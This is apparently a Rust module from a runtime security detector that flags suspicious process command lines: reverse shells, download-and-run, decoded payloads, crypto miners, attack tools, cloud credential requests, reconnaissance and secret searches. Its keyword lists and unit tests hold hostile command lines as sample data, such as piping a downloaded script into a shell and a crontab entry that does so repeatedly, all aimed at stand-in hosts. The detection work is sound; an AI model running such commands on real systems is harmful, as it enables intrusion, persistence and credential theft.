//! What a command line says it does. The process wrote it, so it can only speak against the process.

use super::Written::ByProcess;
use super::address::Network;
use super::mark::Test::{Contains, Fits};
use super::mark::When::{Has, Lacks};
use super::mark::{Mark, malice};
use super::paths::TEMPORARY;
use super::reverse_shell::is_reverse_shell;
use super::shell::{base, commands, holds, is_program, mentions, pipes_into_shell, runs};

/// What was run, by whom, and what was asked to be run in a container.
const COMMANDS: &[&str] = &["proc.cmdline", "ka.uri.param[command]", "proc.pcmdline"];

/// What the process itself ran.
const OWN_COMMAND: &[&str] = &["proc.cmdline", "ka.uri.param[command]"];

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "lwp-download"];

/// How a command line asks for what was downloaded to be run in place.
const RUN_IN_PLACE: &[&str] =
    &["-c \"$(", "-c '$(", "-c $(", "-c `", "eval \"$(", "eval $(", "bash <(", "sh <("];

const DECODERS: &[&str] = &[
    "base64 -d",
    "base64 --d",
    "base64 -D",
    "base32 -d",
    "xxd -r",
    "openssl base64 -d",
    "openssl enc -d",
    "b64decode",
];

/// What only miners say: their protocol, their options, their algorithm.
const MINING: &[&str] = &[
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+",
    "--donate-level",
    "--nicehash",
    "--coin=",
    "--algo=rx/",
    "-a rx/",
    "randomx",
    "--cpu-max-threads-hint",
];

/// Paths under which clouds hand out credentials.
const CLOUD_CREDENTIALS: &[&str] = &[
    "/iam/security-credentials",
    "/identity-credentials/",
    "/computeMetadata/v1/instance/service-accounts",
    "/metadata/identity/oauth2/token",
];

/// Commands that tell an intruder where they are.
const RECONNAISSANCE: &[&str] = &[
    "id", "whoami", "uname", "w", "who", "ifconfig", "netstat", "ss", "arp", "route", "last", "getent",
    "capsh",
];

/// What a search for secrets looks for.
const SECRETS: &[&str] = &[
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    "PRIVATE KEY",
    "RSA PRIVATE",
    "aws_secret_access_key",
    "aws_access_key_id",
    ".aws/credentials",
    "credentials.db",
    ".kube/config",
    "passw",
];

/// Miners, by the names of their programs.
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "ccminer",
    "ethminer",
    "nbminer",
    "lolMiner",
    "t-rex",
    "kinsing",
    "kdevtmpfsi",
    "c3pool",
    "minergate",
];

/// Tools made for breaking in, by the names of their programs.
const ATTACK_TOOLS: &[&str] = &[
    "nmap",
    "masscan",
    "zmap",
    "hydra",
    "ettercap",
    "bettercap",
    "peirates",
    "deepce",
    "cdk",
    "amicontained",
    "linpeas.sh",
    "linpeas",
    "pspy64",
    "pspy",
    "chisel",
    "ligolo",
    "mimipenguin",
    "sqlmap",
    "nikto",
    "msfconsole",
    "kubeletctl",
    "kube-hunter",
    "botb",
    "traitor",
    "gobuster",
    "impacket",
];

pub const MARKS: &[Mark] = &[
    malice(
        "reverse_shell",
        70,
        ByProcess,
        &[Has(COMMANDS, Fits(is_reverse_shell))],
        "{} gives a shell to whoever is at the other end of a connection",
    ),
    malice(
        "makes_a_terminal",
        40,
        ByProcess,
        &[Has(
            COMMANDS,
            Contains(&["pty.spawn", "script -qc /bin/", "script -q /dev/null", "script /dev/null -c"]),
        )],
        "{} makes a terminal for a shell that has none, as one does after breaking in",
    ),
    malice(
        "runs_what_it_downloads",
        40,
        ByProcess,
        &[Has(COMMANDS, Fits(is_download_and_run))],
        "{} downloads something and runs it",
    ),
    malice(
        "downloads_from_bare_address",
        20,
        ByProcess,
        &[Has(COMMANDS, Fits(is_download_from_address))],
        "{} downloads from an address that has no name",
    ),
    malice(
        "runs_what_it_decodes",
        40,
        ByProcess,
        &[Has(COMMANDS, Fits(is_decode_and_run))],
        "{} decodes something and runs it",
    ),
    malice("mines", 60, ByProcess, &[Has(COMMANDS, Contains(MINING))], "{} is how a miner is started"),
    malice(
        "miner_name",
        25,
        ByProcess,
        &[Has(&["proc.exepath", "proc.name", "proc.pname"], Fits(is_miner))],
        "{} has the name of a miner",
    ),
    malice(
        "attack_tool",
        25,
        ByProcess,
        &[Has(&["proc.exepath", "proc.name"], Fits(is_attack_tool))],
        "{} has the name of a tool for looking into or breaking into other systems",
    ),
    malice(
        "asks_for_cloud_credentials",
        15,
        ByProcess,
        &[Has(OWN_COMMAND, Contains(CLOUD_CREDENTIALS))],
        "{} asks the cloud for the credentials of this machine",
    ),
    malice(
        "looks_around",
        15,
        ByProcess,
        &[Has(OWN_COMMAND, Fits(is_reconnaissance))],
        "{} asks where and as whom it runs",
    ),
    malice(
        "searches_for_secrets",
        15,
        ByProcess,
        &[Has(OWN_COMMAND, Fits(is_search_for_secrets))],
        "{} looks for keys or passwords",
    ),
    malice(
        "makes_temporary_file_a_program",
        15,
        ByProcess,
        &[Has(OWN_COMMAND, Fits(is_chmod_in_temporary)), Lacks(OWN_COMMAND, Fits(is_download_and_run))],
        "{} makes a file in a folder that every user can write to a program",
    ),
];

fn downloads(line: &str) -> bool {
    holds(line, DOWNLOADERS) && mentions(line, DOWNLOADERS)
}

fn is_download_and_run(line: &str) -> bool {
    let makes_program = || commands(line).any(|words| is_making_a_program(&words));
    downloads(line) && (pipes_into_shell(line) || holds(line, RUN_IN_PLACE) || makes_program())
}

fn is_making_a_program(words: &[&str]) -> bool {
    let mode = |word: &&str| {
        word.contains("+x") || ["7", "07", "47", "047"].iter().any(|mode| word.starts_with(mode))
    };
    words.first().is_some_and(|first| base(first) == "chmod") && words.get(1).is_some_and(mode)
}

/// `http://203.0.113.9/…`: not the machine itself, and not its own network.
fn is_download_from_address(line: &str) -> bool {
    let hosts = || line.split("://").skip(1).filter_map(|rest| rest.split(['/', ':', ' ', '"', '\'']).next());
    let outside = |host: &str| {
        Network::of(host).is_some_and(|network| {
            !matches!(network, Network::Loopback | Network::Private | Network::LinkLocal)
        })
    };
    line.contains("://") && downloads(line) && hosts().any(outside)
}

fn is_decode_and_run(line: &str) -> bool {
    holds(line, DECODERS) && (holds(line, &["exec(", "eval"]) || pipes_into_shell(line))
}

fn is_miner(name: &str) -> bool {
    is_program(name, MINERS)
}

fn is_attack_tool(name: &str) -> bool {
    is_program(name, ATTACK_TOOLS)
}

/// Start scripts and Hadoop ask `id -u`, `id -gn`, `uname -m`: one option, one answer, no look around.
fn is_reconnaissance(line: &str) -> bool {
    commands(line).any(|words| {
        let [first, rest @ ..] = words.as_slice() else { return false };
        let asks_one_thing = is_program(first, &["id", "uname"])
            && rest.iter().any(|word| word.starts_with('-') && *word != "-a");
        is_program(first, RECONNAISSANCE) && !asks_one_thing
    })
}

fn is_search_for_secrets(line: &str) -> bool {
    holds(line, SECRETS) && runs(line, &["find", "grep", "egrep", "fgrep", "rg", "locate"])
}

fn is_chmod_in_temporary(line: &str) -> bool {
    let below = |word: &&str| TEMPORARY.iter().any(|folder| word.starts_with(folder));
    line.contains("chmod")
        && commands(line).any(|words| is_making_a_program(&words) && words.iter().any(below))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_are_run() {
        for line in [
            "sh -c curl -fsSL https://x.example/i.sh | sudo bash -s",
            "sh -c wget -qO- http://203.0.113.80/i.sh|bash",
            "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
            "sh -c curl -o /tmp/x http://203.0.113.3/x && chmod +x /tmp/x && /tmp/x",
            "sh -c (crontab -l; echo '* * * * * curl -s http://203.0.113.50/i.sh | sh') | crontab -",
        ] {
            assert!(is_download_and_run(line), "{line}");
        }
        for line in [
            "curl -o /tmp/x https://x.example/x",
            "sh -c cat curlrc | sh",
            "sh -c curl -s x | grep y || sh z",
        ] {
            assert!(!is_download_and_run(line), "{line}");
        }
    }

    #[test]
    fn addresses_without_a_name() {
        assert!(is_download_from_address("curl http://203.0.113.9/x"));
        assert!(is_download_from_address("wget http://8.8.8.8:8080/x"));
        assert!(!is_download_from_address("curl http://127.0.0.1:8080/healthz"));
        assert!(!is_download_from_address("curl http://10.0.0.7/x"));
        assert!(!is_download_from_address("curl https://x.example/203.0.113.9"));
        assert!(!is_download_from_address("echo http://203.0.113.9/x"));
    }

    #[test]
    fn commands_that_look_around() {
        assert!(is_reconnaissance("bash -c id;uname -a"));
        assert!(is_reconnaissance("whoami"));
        assert!(!is_reconnaissance("sh -c test ! -f /backup/1 && cp a /backup/1"));
        assert!(!is_reconnaissance("find / -name id"));
        assert!(!is_reconnaissance("bash -c id -gn app && id -Gn app"));
    }

    #[test]
    fn a_file_made_a_program() {
        assert!(is_chmod_in_temporary("chmod 0755 /tmp/.a"));
        assert!(is_chmod_in_temporary("sh -c cp a /tmp/a; chmod +x /tmp/a"));
        assert!(!is_chmod_in_temporary("chmod +x /app/run.sh"));
        assert!(!is_chmod_in_temporary("chmod 600 /tmp/key"));
    }
}
